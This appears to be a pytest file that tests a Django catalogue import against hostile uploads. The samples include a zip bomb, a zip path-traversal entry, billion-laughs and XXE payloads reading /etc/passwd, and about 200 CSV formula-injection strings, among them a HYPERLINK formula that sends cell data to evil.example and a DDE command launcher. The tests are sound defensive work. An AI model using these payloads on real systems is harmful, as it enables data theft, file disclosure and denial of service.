"""Files that are no catalogue, chosen by mistake or made to do harm: one sentence, nothing saved.

The import takes CSV. Whatever else comes is known by its content, never by its name, and never
unpacked or parsed, so that no archive and no entity can grow in memory.
"""

import csv
import io
import os
import subprocess
import sys
import tracemalloc
import zipfile
from itertools import product
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.utils.html import escape

from catalog import import_page
from catalog.importing import COLUMNS, ROW_CHARACTERS_MAX, import_catalog, write_failed_rows
from catalog.models import Product
from tests import make, office
from tests.databases import CHECKOUT, unchanged

pytestmark = pytest.mark.django_db

IMPORT = "/admin/catalog/product/import/"
HEADER = ",".join(COLUMNS) + "\n"
WORKBOOK = "This is an Excel workbook or another zip archive. Save it as CSV in UTF-8."
MEGABYTE = 1_000_000


def ask_page(content, tmp_path):
    """What the page says to this file."""
    client = office.head_of_chain(make.new_id())
    with unchanged():
        file = SimpleUploadedFile("catalogue.csv", content, "text/csv")
        answer = client.post(IMPORT, {"step": "check", "file": file})
    assert answer.status_code == 200
    assert 'name="checked"' not in answer.content.decode()  # nothing to go on with
    return answer.content.decode()


def ask_command(content, tmp_path):
    """What `manage.py importcatalog` says to this file."""
    path = tmp_path / "catalogue.csv"
    path.write_bytes(content)
    with unchanged(), pytest.raises(CommandError) as error:
        call_command("importcatalog", str(path))
    assert str(error.value).endswith(" Nothing was changed.")
    return escape(str(error.value))


@pytest.fixture(params=[ask_page, ask_command], ids=["page", "command"])
def refuses(request, tmp_path):
    def refuses(content, sentence):
        assert escape(sentence) in request.param(content, tmp_path)

    return refuses


def pack(entries, **options):
    """A zip archive with these files."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return packed.getvalue()


@pytest.fixture(scope="module")
def bomb():
    """A workbook of some 500 kB that unpacks to as many megabytes."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(500):
                sheet.write(b" " * MEGABYTE)
    assert 400_000 < len(packed.getvalue()) < 600_000
    return packed.getvalue()


def test_89_workbook_that_grows_a_thousand_times_is_not_unpacked(refuses, bomb):
    tracemalloc.start()
    refuses(bomb, WORKBOOK)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 20 * MEGABYTE


def test_89_a_whole_workbook_is_told_to_be_saved_as_csv(refuses):
    refuses(pack([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<a/>")]), WORKBOOK)
    old = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(512)
    refuses(old, "This is an old Excel workbook. Save it as CSV in UTF-8.")


def test_90_archive_in_an_archive_many_entries_and_names_that_climb(refuses, bomb):
    refuses(pack([("a.xlsx", bomb)]), WORKBOOK)
    many = [(f"{n}", b"") for n in range(5_000)]
    refuses(pack(many), WORKBOOK)
    refuses(pack([("../../../../tmp/kiryana-was-here", b"x")]), WORKBOOK)
    refuses(pack([]), WORKBOOK)
    assert not Path("/tmp/kiryana-was-here").exists()
    refuses(
        bytes.fromhex("1f8b0800") + bytes(20), "This is a gzip archive. Save it as CSV in UTF-8."
    )


XML = "This is XML or a web page. Save it as CSV in UTF-8."


def test_91_entities_that_laugh_and_those_from_elsewhere_are_not_read(refuses):
    laugh = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "lol">' for n in range(10)
    )
    refuses(f'<?xml version="1.0"?><!DOCTYPE l [{laugh}]><a>&l9;</a>'.encode(), XML)
    refuses(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', XML)
    refuses(b"<html><table><tr><td>TEA</td></tr></table></html>", XML)
    refuses(b"\xef\xbb\xbf<html></html>", XML)


def test_92_pdf_named_csv(refuses):
    refuses(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "This is a PDF. Save it as CSV in UTF-8.")


@pytest.mark.parametrize(
    ("rows", "sentence"),
    [
        (b"A,a,,,,\nB,b\0,,,,\n", "Line 3 holds a NUL character; this is no CSV file."),
        (b"A,a,,,,\nB,b,,,,\n\0\0\0\n", "Line 4 holds a NUL character; this is no CSV file."),
        (b"A,\xc4\x8caj,,,,\nB,\xc8aj,,,,\n", "Line 3 is not UTF-8; save the file as UTF-8."),
        (b"A,a,,,,\n" + "B,b,,,,\n".encode("utf-16"), "Line 3 is not UTF-8; "),
        (b"A,a,,,,\nB,%s,,,,\n" % (b"x" * 140_000),
         "Line 3 cannot be read as CSV: field larger than field limit (131072)."),
        (b"A,a,,,,\nB," + b"x," * 150_000, "Line 3: a row has more than 200,000 characters."),
        (b"A,a,,,,\n" + b'"x\n",' * 60_000, " a row has more than 200,000 characters."),
        (b'A,a,,,,\nB,"b,,,,\nC,c,,,,\n', "Line 3 cannot be read as CSV: unexpected end of data."),
    ],
    ids=["nul", "nul later", "two encodings", "utf-16", "field", "cells", "lines", "quote"],
)  # fmt: skip
def test_92_row_that_cannot_be_read_is_told_by_its_line(refuses, rows, sentence):
    refuses(HEADER.encode() + rows, sentence)


def test_92_page_takes_so_many_rows_and_no_more(monkeypatch):
    """5 MiB may be a million rows, each of which is remembered with its reason."""
    monkeypatch.setattr(import_page, "ROWS_MAX", 2)
    assert "The file has more than 2 rows." in ask_page((HEADER + ",,,,,\n" * 3).encode(), None)
    client = office.head_of_chain("other")
    file = SimpleUploadedFile("catalogue.csv", (HEADER + "A,a,,,,\nB,b,,,,\n").encode())
    answer = client.post(IMPORT, {"step": "check", "file": file})
    assert "Would be created 2" in office.text_of(answer)


ENDLESS_MEGABYTES = 1_000
# A process of its own, because the peak of this one has been reached by other tests.
READ_ENDLESS = """
import io, resource
import django; django.setup()
from catalog.importing import import_catalog
from inventory_project.errors import InvalidValue

class Endless(io.RawIOBase):
    left = {megabytes} * 1_000_000
    def readable(self): return True
    def readinto(self, buffer):
        count = min(len(buffer), self.left)
        buffer[:count] = b"x" * count
        self.left -= count
        return count

before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
file = Endless()
try:
    import_catalog(io.TextIOWrapper(io.BufferedReader(file)))
except InvalidValue as error:
    print(error.detail)
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024, file.left)
"""


@pytest.mark.sqlite  # no database is asked
def test_92_line_of_a_gigabyte_is_refused_after_its_first_characters():
    done = subprocess.run(
        [sys.executable, "-c", READ_ENDLESS.format(megabytes=ENDLESS_MEGABYTES)],
        cwd=CHECKOUT, capture_output=True, text=True,
        env=os.environ | {"DJANGO_SETTINGS_MODULE": "inventory_project.settings"},
    )  # fmt: skip
    sentence, numbers = done.stdout.splitlines()
    assert sentence == f"Line 1: a row has more than {ROW_CHARACTERS_MAX:,} characters."
    grown_megabytes, left = map(int, numbers.split())
    assert grown_megabytes < 10
    assert left > (ENDLESS_MEGABYTES - 1) * MEGABYTE


def test_92_the_command_does_not_hold_an_endless_line_either(tmp_path):
    """It counts the lines first, for its bar."""
    path = tmp_path / "catalogue.csv"
    with path.open("wb") as file:
        file.truncate(200 * MEGABYTE)  # a hole: all NUL, and no room on the disk
    tracemalloc.start()
    with unchanged(), pytest.raises(CommandError) as error:
        call_command("importcatalog", str(path))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert str(error.value).startswith("Line 1 holds a NUL character")
    assert peak < 20 * MEGABYTE


# --- 93: formulas ----------------------------------------------------------------------------

STARTS = ("=", "+", "-", "@", "\t=", "\r=")
TAILS = (
    'HYPERLINK("http://evil.example?"&A1,"Tea")', "SUM(A1:A9)", "2+3", "1", "cmd|' /C calc'!A0",
    "IMPORTXML(1)", "DDE(1)", "'", '"', "é", ",x", ";x", "A1", "(1)", "{1}", "[1]x!A1", "1;2",
    "x'y", "@x", "-x", "=x", "+x", "50% Soap", "🫖", "WEBSERVICE(1)", "1E5", "x,y", "''", "!",
    "A:A", " x", "x\\y", "<b>", "&amp;",
)  # fmt: skip
PAYLOADS = [f"{start}{tail}" for start, tail in product(STARTS, TAILS)]
STORED = [text for text in PAYLOADS if text[0] not in "\t\r"]


def test_93_there_are_two_hundred():
    assert len(PAYLOADS) >= 200


def test_93_formula_in_a_name_is_stored_as_it_is():
    """It is a name until a spreadsheet opens it: nothing is taken from it, nothing added."""
    head_office = make.make_head_office()
    for number, text in enumerate(STORED):
        answer = head_office.post("/api/catalog/products/", {"sku": f"A-{number}", "name": text})
        assert answer.status_code == 201, (text, answer.content)
        assert answer.body["name"] == text
    rows = io.StringIO(newline="")
    writer = csv.writer(rows)
    writer.writerow(COLUMNS)
    writer.writerows([f"B-{n}", text, "", "", "", ""] for n, text in enumerate(STORED))
    rows.seek(0)
    assert import_catalog(rows).created == len(STORED)
    for prefix in "AB":
        names = Product.objects.filter(sku__startswith=f"{prefix}-")
        assert {p.sku: p.name for p in names} == {
            f"{prefix}-{n}": text for n, text in enumerate(STORED)
        }


@pytest.mark.parametrize("column", COLUMNS)
def test_93_no_cell_of_the_failed_rows_is_a_formula_and_each_can_be_had_back(column):
    rows = io.StringIO(newline="")
    writer = csv.DictWriter(rows, COLUMNS)
    writer.writeheader()
    for text in PAYLOADS:
        writer.writerow(dict.fromkeys(COLUMNS, "") | {"unit": "box", column: text})
    rows.seek(0)
    report = import_catalog(rows, dry_run=True)
    assert len(report.failed) == len(PAYLOADS)
    written = io.StringIO(newline="")
    write_failed_rows(report, written)
    written.seek(0)
    cells = [cell for row in csv.reader(written) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    written.seek(0)
    again = import_catalog(written, dry_run=True)
    assert [failed.row[column] for failed in again.failed] == PAYLOADS
